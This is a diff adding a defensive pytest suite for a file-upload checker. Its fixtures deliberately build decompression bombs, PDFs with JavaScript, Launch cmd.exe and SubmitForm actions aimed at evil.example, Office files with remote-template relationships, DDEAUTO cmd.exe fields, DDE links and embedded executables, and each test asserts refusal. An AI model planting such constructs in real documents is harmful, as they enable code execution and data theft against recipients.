@@ -1,0 +1,415 @@
+"""Files that were made to cost much or to run something: each is refused in a moment, in clear words."""
+
+import base64
+import gzip
+import resource
+import subprocess
+import sys
+import time
+import zipfile
+import zlib
+from collections.abc import Callable
+from io import BytesIO
+from pathlib import Path
+from typing import Any
+
+import pikepdf
+import pytest
+from django.core.files.base import ContentFile
+from PIL import Image
+
+from office.examination import process
+from office.examination.budgets import Budget
+from office.examination.reasons import WORDS, Unacceptable
+from office.files import examine, store
+from office.refusals import Refused
+from office.sheets import read_rows
+from tests.conftest import NOW
+from tests.office import uploads
+from tests.office.uploads import refused
+
+RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+# What one file may take of the processor, with the start of the process.
+SECONDS = 2.6
+
+
+def processor_seconds() -> float:
+    spent = [resource.getrusage(who) for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)]
+    return sum(each.ru_utime + each.ru_stime for each in spent)
+
+
+def outcome(content: bytes, budget: Budget | None = None) -> str:
+    """The code of a refusal, or the type."""
+    try:
+        return examine(content, budget=budget)[1]
+    except Refused as refusal:
+        assert refusal.message.endswith("。")
+        return refusal.code
+
+
+def flat(width: int, height: int, format_name: str, mode: str = "RGB", **options: object) -> bytes:
+    return uploads.saved(Image.new(mode, (width, height)), format_name, **options)
+
+
+def object_stream(objects: bytes, filters: str = "/FlateDecode", packed: bytes | None = None) -> bytes:
+    stream = zlib.compress(objects) if packed is None else packed
+    head = f"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length {len(stream)} /Filter {filters} >>\nstream\n"
+    return uploads.pdf(head.encode() + stream + b"\nendstream\nendobj\n")
+
+
+def noisy(size: int) -> bytes:
+    return bytes((place * 7919 >> 3) % 251 for place in range(size))
+
+
+def many_parts(count: int) -> bytes:
+    written = BytesIO(uploads.docx())
+    with zipfile.ZipFile(written, "a") as package:
+        for number in range(count):
+            package.writestr(f"word/media/{number}.bin", b"x")
+    return written.getvalue()
+
+
+COSTLY: dict[str, Callable[[], bytes]] = {
+    "a relation without end": lambda: uploads.with_part(
+        uploads.docx(), "word/_rels/x.rels", b"<Relationship " + b"a" * 2_000_000
+    ),
+    "relations without number": lambda: uploads.with_part(
+        uploads.docx(), "word/_rels/x.rels", b"<R>" + b"<Relationship/>" * 130_000 + b"</R>"
+    ),
+    "streams that never end": lambda: uploads.pdf(b"stream\n" * 28_000),
+    "streams of nothing": lambda: uploads.pdf(b"stream\nendstream\n" * 300_000),
+    "names of numbers": lambda: uploads.pdf(b"/#41#42#43" * 900_000),
+    "an object stream that unpacks to 400 MB": lambda: object_stream(bytes(400_000_000)),
+    "object streams by the thousand": lambda: uploads.pdf(
+        b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n%b\nendstream\nendobj\n"
+        % zlib.compress(bytes(7_000_000))
+        * 900
+    ),
+    "objects by the hundred thousand": lambda: uploads.pdf(
+        b"".join(b"%d 0 obj\n<</A %d 0 R>>\nendobj\n" % (n, n + 1) for n in range(3, 200_000))
+    ),
+    "arrays in arrays": lambda: uploads.pdf(b"3 0 obj\n" + b"[" * 3_000_000 + b"\nendobj\n"),
+    "parts by the ten thousand": lambda: many_parts(20_000),
+    "elements in elements": lambda: uploads.with_part(
+        uploads.docx(), "word/_rels/x.rels", b"<a>" * 200_000 + b"</a>" * 200_000
+    ),
+    "a prologue of comments": lambda: uploads.with_part(
+        uploads.docx(), "word/x.xml", b"<!--" + noisy(1000).replace(b"-", b"+") * 9000 + b"--><x/>"
+    ),
+    "a picture of 50 million pixels": lambda: flat(7200, 7200, "PNG"),
+    "a transparent one": lambda: flat(7200, 7200, "PNG", "RGBA"),
+    "one in sixteen bits": lambda: flat(7200, 7200, "PNG", "I;16"),
+    "a GIF of 50 million": lambda: flat(7200, 7200, "GIF", "P"),
+    "a TIFF of 50 million": lambda: flat(7200, 7200, "TIFF", "1", compression="group4"),
+    "a WebP of 50 million": lambda: flat(7200, 7200, "WEBP", lossless=True),
+    "a photograph in scans": lambda: flat(10_000, 10_000, "JPEG", progressive=True),
+}
+
+
+class TestCost:
+    @pytest.mark.parametrize("made", COSTLY.values(), ids=COSTLY)
+    def test_no_file_costs_more_than_two_seconds(self, made: Callable[[], bytes]) -> None:
+        content = made()
+        before = processor_seconds()
+        result = outcome(content)
+        assert processor_seconds() - before < SECONDS
+        assert result in {code for code, _ in WORDS.values()} or "/" in result
+
+    def test_six_files_together_cost_no_more_than_three(self) -> None:
+        content, budget = flat(7200, 7200, "PNG"), Budget()
+        before = processor_seconds()
+        results = [outcome(content, budget) for _ in range(7)]
+        assert processor_seconds() - before < 9
+        assert results[0] == "image/png"
+        assert results[-1] == "too_large"
+
+    def test_the_pixels_of_one_request_are_counted_together(self) -> None:
+        budget = Budget(pixels=10_000)
+        picture = flat(80, 80, "PNG")
+        assert outcome(picture, budget) == "image/png"
+        with pytest.raises(Refused, match="合计像素"):
+            examine(picture, budget=budget)
+
+    def test_a_table_of_ten_million_cells_is_refused(self) -> None:
+        before = processor_seconds()
+        with pytest.raises(Refused, match="列"):
+            read_rows(BytesIO(b"a," * 5_000_000), "名册.csv")
+        assert processor_seconds() - before < SECONDS
+
+
+class TestKilling:
+    def test_what_takes_too_long_is_ended_and_said(self, settings: Any) -> None:
+        settings.EXAMINATION_SECONDS = 0.05
+        with pytest.raises(Refused, match="没能在限定时间内检查完"):
+            examine(flat(7200, 7200, "PNG"))
+
+    def test_what_takes_too_much_memory_is_ended_and_said(self) -> None:
+        task = {"job": "html", "tags": [], "dropped": [], "attributes": {}}
+        with pytest.raises(Unacceptable):
+            process._run(task, b"<b>" * 10_000_000, Budget())
+
+    def test_it_is_ended_with_the_request_that_is_given_up(
+        self, monkeypatch: pytest.MonkeyPatch, settings: Any
+    ) -> None:
+        started: list[subprocess.Popen[bytes]] = []
+
+        def given_up(running: subprocess.Popen[bytes], seconds: float) -> None:
+            started.append(running)
+            raise SystemExit
+
+        monkeypatch.setattr(process, "_wait", given_up)
+        with pytest.raises(SystemExit):
+            examine(flat(7200, 7200, "PNG"))
+        assert started[0].returncode == -9
+
+    def test_it_ends_by_itself_where_nobody_is_left_to_end_it(self) -> None:
+        endless = "import time\nfrom office.examination import child\nchild.bind(2, 0.3)\ntime.sleep(60)\n"
+        began = time.monotonic()
+        ended = subprocess.run([sys.executable, "-c", endless], cwd=Path(__file__).parents[2])
+        assert ended.returncode == -14
+        assert time.monotonic() - began < 30
+
+    def test_a_process_has_no_secret_and_writes_no_file(self) -> None:
+        seen = (
+            "import json, os\nfrom office.examination import child\nchild.bind(2, 20)\n"
+            "print(json.dumps(dict(os.environ)))\n"
+            "place = open(os.environ['PLACE'], 'wb', 0)\n"
+            "place.write(bytes(child.ANSWER_AT_MOST))\nplace.write(b'x')\n"
+        )
+        ended = subprocess.run(
+            [sys.executable, "-c", seen],
+            cwd=Path(__file__).parents[2],
+            env={"PLACE": "/dev/shm/never"},
+            capture_output=True,
+        )
+        Path("/dev/shm/never").unlink(missing_ok=True)
+        assert ended.returncode != 0
+        assert b"File too large" in ended.stderr
+
+    def test_an_answer_is_believed_only_where_it_is_known(self, monkeypatch: pytest.MonkeyPatch) -> None:
+        head = {"type": "text/html", "pixels": 0, "seconds": 0}
+        monkeypatch.setattr(process, "_answer", lambda task, content: (head, b"<script>"))
+        with pytest.raises(Refused):
+            examine(b"x")
+
+
+class TestPhotographs:
+    def test_a_photograph_of_200_million_pixels_is_shrunk(self) -> None:
+        content, content_type = examine(flat(16_320, 12_240, "JPEG"))
+        assert content_type == "image/jpeg"
+        assert max(Image.open(BytesIO(content)).size) == 4096
+
+    @pytest.mark.parametrize(
+        ("format_name", "mode", "kept_as"),
+        [
+            ("GIF", "P", "image/png"),
+            ("BMP", "RGB", "image/jpeg"),
+            ("BMP", "1", "image/png"),
+            ("TIFF", "RGB", "image/jpeg"),
+            ("TIFF", "1", "image/png"),
+        ],
+    )
+    def test_other_kinds_of_pictures_are_taken(self, format_name: str, mode: str, kept_as: str) -> None:
+        assert outcome(flat(30, 20, format_name, mode)) == kept_as
+
+    def test_pages_of_a_tiff_are_not_dropped_in_silence(self) -> None:
+        page = Image.new("L", (30, 20))
+        with pytest.raises(Refused, match="好几页"):
+            examine(uploads.saved(page, "TIFF", save_all=True, append_images=[page]))
+
+
+def whole_pdf(**changes: object) -> bytes:
+    """As programs write one: cross-reference, page, catalogue."""
+    document = pikepdf.new()
+    document.add_blank_page()
+    for name, value in changes.items():
+        document.Root[f"/{name}"] = document.make_indirect(value)
+    written = BytesIO()
+    document.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    return written.getvalue()
+
+
+def locked_pdf(action: pikepdf.Dictionary | None = None, **passwords: str) -> bytes:
+    document = pikepdf.new()
+    document.add_blank_page()
+    if action is not None:
+        document.Root.OpenAction = document.make_indirect(action)
+    written = BytesIO()
+    document.save(
+        written,
+        object_stream_mode=pikepdf.ObjectStreamMode.generate,
+        encryption=pikepdf.Encryption(**passwords, R=6),
+    )
+    return written.getvalue()
+
+
+SCRIPT = b"3 0 << /S /JavaScript /JS (app.alert(1)) >>"
+ACTIONS = {
+    "script": pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"),
+    "script without its name": pikepdf.Dictionary(S=pikepdf.Name.Rendition, JS="app.alert(1)"),
+    "launch": pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
+    "submit": pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example/"),
+    "import": pikepdf.Dictionary(S=pikepdf.Name.ImportData, F="data.fdf"),
+}
+
+
+class TestPdf:
+    def test_a_whole_one_is_kept(self) -> None:
+        content = whole_pdf()
+        assert examine(content) == (content, "application/pdf")
+
+    @pytest.mark.parametrize("action", ACTIONS.values(), ids=ACTIONS)
+    def test_actions_in_object_streams_are_found(self, action: pikepdf.Dictionary) -> None:
+        content = whole_pdf(OpenAction=action)
+        assert b"/JS" not in content
+        assert refused(content) == "not_allowed"
+
+    def test_forms_of_xml_are_found(self) -> None:
+        assert refused(whole_pdf(AcroForm=pikepdf.Dictionary(Fields=[], XFA="<xdp/>"))) == "not_allowed"
+
+    @pytest.mark.parametrize(
+        "name", [b"/#4aavaScript", b"/Java#53cript", b"/#4a#53", b"/#4caunch", b"/Submit#46orm", b"/X#46A"]
+    )
+    def test_names_behind_escapes_are_found(self, name: bytes) -> None:
+        assert refused(uploads.pdf(b"3 0 obj\n<< /S " + name + b" 1 >>\nendobj\n")) == "not_allowed"
+
+    @pytest.mark.parametrize(
+        ("filters", "packed"),
+        [
+            ("/FlateDecode", zlib.compress(SCRIPT)),
+            ("[/ASCIIHexDecode /FlateDecode]", zlib.compress(SCRIPT).hex().encode() + b">"),
+            ("[/ASCII85Decode /FlateDecode]", base64.a85encode(zlib.compress(SCRIPT)) + b"~>"),
+            ("[/A85]", base64.a85encode(SCRIPT) + b"~>"),
+            ("/AHx", SCRIPT.hex().encode() + b">"),
+            ("/#46lateDecode", zlib.compress(SCRIPT)),
+            ("/RunLengthDecode", bytes([len(SCRIPT) - 1]) + SCRIPT + b"\x80"),
+        ],
+    )
+    def test_every_filter_is_undone(self, filters: str, packed: bytes) -> None:
+        assert refused(object_stream(SCRIPT, filters, packed)) == "not_allowed"
+
+    def test_the_kind_of_a_stream_may_be_escaped_as_well(self) -> None:
+        content = object_stream(SCRIPT).replace(b"/ObjStm", b"/O#62jStm")
+        assert refused(content) == "not_allowed"
+
+    def test_a_script_behind_an_empty_password_is_found(self) -> None:
+        assert refused(locked_pdf(ACTIONS["script"], owner="x", user="")) == "not_allowed"
+
+    def test_what_cannot_be_looked_into_is_refused_with_a_way_out(self) -> None:
+        with pytest.raises(Refused, match="取消密码"):
+            examine(locked_pdf(owner="x", user="x"))
+
+    def test_an_attached_program_is_found_and_an_invoice_is_not_one(self) -> None:
+        for name, content, expected in (
+            ("发票.xml", b"<invoice/>", "application/pdf"),
+            ("发票.exe", b"some program", "not_allowed"),
+            ("发票.xml", b"MZ\x90\x00", "not_allowed"),
+        ):
+            document = pikepdf.new()
+            document.add_blank_page()
+            document.attachments[name] = pikepdf.AttachedFileSpec(document, content, filename=name)
+            written = BytesIO()
+            document.save(written)
+            assert outcome(written.getvalue()) == expected
+
+
+def relations(target: str, kind: str = "attachedTemplate", mode: str = "External") -> str:
+    return (
+        f'<Relationships xmlns="x"><Relationship Id="r1" Type="{RELATION}{kind}" Target="{target}"'
+        f' TargetMode="{mode}"/></Relationships>'
+    )
+
+
+def with_relations(content: bytes) -> bytes:
+    return uploads.with_part(uploads.docx(), "word/_rels/settings.xml.rels", content)
+
+
+def field(*runs: str) -> bytes:
+    parts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
+    return f'<w:document xmlns:w="w"><w:p>{parts}</w:p></w:document>'.encode()
+
+
+class TestOffice:
+    @pytest.mark.parametrize(
+        "content",
+        [
+            relations("&#104;ttp://evil.example/x.dotm").encode(),
+            relations("http://evil.example/x.dotm")
+            .replace("attachedTemplate", "attached&#x54;emplate")
+            .encode(),
+            relations("http://evil.example/x.dotm").encode("utf-16"),
+            ('<?xml version="1.0" encoding="UTF-16"?>' + relations("http://evil.example/")).encode("utf-16"),
+            relations("http://evil.example/x").replace("Relationship ", "p:Relationship ").encode(),
+            relations("ht&#10;tp://evil.example/x").encode(),
+            relations("mhtml:http://evil.example/x", "oleObject").encode(),
+            relations("\\\\evil.example\\share", "frame", "external").encode(),
+        ],
+    )
+    def test_a_remote_template_is_found_however_it_is_written(self, content: bytes) -> None:
+        assert refused(with_relations(content)) in {"not_allowed", "broken"}
+
+    @pytest.mark.parametrize(
+        "name", ["word/document.xml", "word/x.vml", "customXml/item1.bin", "word/late.xml"]
+    )
+    def test_a_document_type_is_found_anywhere(self, name: str) -> None:
+        late = b"<?xml version='1.0'?><!--" + b" " * 100_000 + b"--><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"
+        assert refused(uploads.with_part(uploads.docx(), name, late)) == "not_allowed"
+        wide = late.decode().encode("utf-16")
+        assert refused(uploads.with_part(uploads.docx(), name, wide)) == "not_allowed"
+
+    @pytest.mark.parametrize(
+        "part",
+        [
+            field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
+            field("DD", "EAU", "TO cmd"),
+            field(" &#68;DE cmd"),
+            b'<w:document xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO cmd "/></w:document>',
+            field("dde cmd").decode().encode("utf-16"),
+        ],
+    )
+    def test_fields_that_start_a_program_are_found(self, part: bytes) -> None:
+        assert refused(uploads.with_part(uploads.docx(), "word/document.xml", part)) == "not_allowed"
+
+    def test_a_workbook_that_exchanges_data_is_found(self) -> None:
+        link = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+        assert (
+            refused(uploads.with_part(uploads.xlsx(["a"]), "xl/externalLinks/externalLink1.xml", link))
+            == "not_allowed"
+        )
+
+    def test_page_numbers_are_no_exchange_of_data(self) -> None:
+        content = uploads.with_part(uploads.docx(), "word/header1.xml", field(" PAGE ", " \\* MERGEFORMAT "))
+        assert "wordprocessingml" in outcome(content)
+
+    @pytest.mark.parametrize(
+        ("name", "content"),
+        [
+            ("word/embeddings/a.bin", b"MZ\x90\x00" + bytes(100)),
+            (
+                "word/embeddings/oleObject1.bin",
+                b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "\x01Ole10Native".encode("utf-16-le"),
+            ),
+            ("word/media/image1.exe", b"x"),
+            ("word/media/a.png", b"\x7fELF" + bytes(100)),
+            ("word/embeddings/b.xlsx", uploads.with_part(uploads.xlsx(["a"]), "xl/vbaProject.bin", b"x")),
+            ("word/embeddings/c.xlsx", uploads.with_part(uploads.xlsx(["a"]), "x/d.exe", b"x")),
+        ],
+    )
+    def test_embedded_programs_are_found(self, name: str, content: bytes) -> None:
+        assert refused(uploads.with_part(uploads.docx(), name, content)) == "not_allowed"
+
+    def test_the_table_of_a_chart_is_allowed(self) -> None:
+        content = uploads.with_part(uploads.docx(), "word/embeddings/table.xlsx", uploads.xlsx(["a", 1]))
+        assert "wordprocessingml" in outcome(content)
+
+    def test_a_compressed_part_under_another_name_is_no_shelter(self) -> None:
+        assert outcome(uploads.with_part(uploads.docx(), "word/a.gz", gzip.compress(b"x" * 1000)))
+
+
+@pytest.mark.django_db
+class TestNames:
+    @pytest.mark.parametrize("name", ["长" * 250 + ".pdf", "a" * 5000, "." * 300, "长" * 300 + ".tar.gz"])
+    def test_a_long_name_is_shortened_and_the_file_kept(self, name: str, files_of_this_test: Path) -> None:
+        stored = store(ContentFile(uploads.pdf(), name=name), by=None, at=NOW)
+        assert stored.name.endswith(".pdf")
+        assert len(stored.name) <= 124
